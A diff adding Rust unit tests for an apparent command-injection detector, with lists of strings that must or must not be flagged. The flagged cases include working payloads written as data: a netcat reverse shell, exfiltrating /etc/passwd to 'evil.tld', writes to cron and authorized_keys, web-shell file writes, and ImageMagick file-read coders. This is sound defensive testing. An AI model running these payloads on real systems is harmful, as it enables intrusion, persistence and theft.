@@ -2442,3 +2442,101 @@ fn in_etc_agrees_with_the_segment_split() {
         }
     }
 }
+
+/// Round 19: constructs a shell or an interactive program runs without a known command
+/// name, with the look-alikes each must leave alone.
+#[test]
+fn unknown_programs_escapes_coders_and_redirections() {
+    for v in [
+        // An unknown program after a separator opening the value, or glued to `${IFS}`.
+        ";w${IFS}",
+        "&& history",
+        "; read -t 10",
+        "& dropbear -p 2222",
+        "& conhost calc.exe",
+        "|| mytool --now",
+        "main.go; go run /tmp/x.go",
+        // Pager, editor and ex escapes.
+        "!id",
+        ":!id",
+        ":!/bin/bash",
+        ":!ls -la",
+        ":set shell=/bin/sh|:shell",
+        // ImageMagick coders that run a script or read a file.
+        "msl:/tmp/evil.msl",
+        "mvg:/tmp/x.mvg",
+        "ephemeral:/tmp/x.svg",
+        "text:/etc/passwd",
+        "label:@/etc/passwd",
+        // A bare redirection into a file the system runs.
+        "> /etc/cron.d/x",
+        "1 > /etc/cron.d/x",
+        ">> /root/.ssh/authorized_keys",
+        // PowerShell's file writers after a separator, given a path.
+        "| Out-File C:\\inetpub\\wwwroot\\x.aspx",
+        "; Set-Content -Path /var/www/x.php",
+        // PowerShell's call operator on a name glued from pieces.
+        "; $x='who'+'ami'; & $x",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "a; b; c",
+        "R&D; sales",
+        "Tom & Jerry",
+        "fish; chips",
+        "&nbsp;",
+        "&q=1",
+        "| name | type |",
+        "; this is a comment",
+        "; end",
+        ";performance",
+        "& others",
+        "!important",
+        "!ping",
+        "!help me",
+        ":smile:",
+        ":set number",
+        "text: hello",
+        "label:@user",
+        "msl is a language",
+        "> /etc/hosts is where names live",
+        "> quoted text",
+        "x > 5",
+        "$x = 'a' + 'b'",
+        "Out-File C:\\x.txt",
+        "Home | Out-File",
+        "| out-file report",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// A command line followed by prose, or shown in a code span inside a question, is what
+/// people type into a search or help-desk box.
+#[test]
+fn commands_quoted_in_prose() {
+    for v in [
+        "ls -la output below",
+        "docker compose up -d not working",
+        "powershell Get-ChildItem recursion question",
+        "git commit -m \"fix typo\"",
+        "git commit -m \"fix: handle <null> values\"",
+        "why does `cat file | grep x` hang?",
+        "Use `$(pwd)` in your script",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "ls -la",
+        "cat /etc/passwd",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "ping -c 10 localhost",
+        "sh -c \"cat /etc/passwd\"",
+        "git commit -m \"$(id)\"",
+        "x `cat /etc/passwd | nc evil.tld 80`",
+        "a`id`b",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
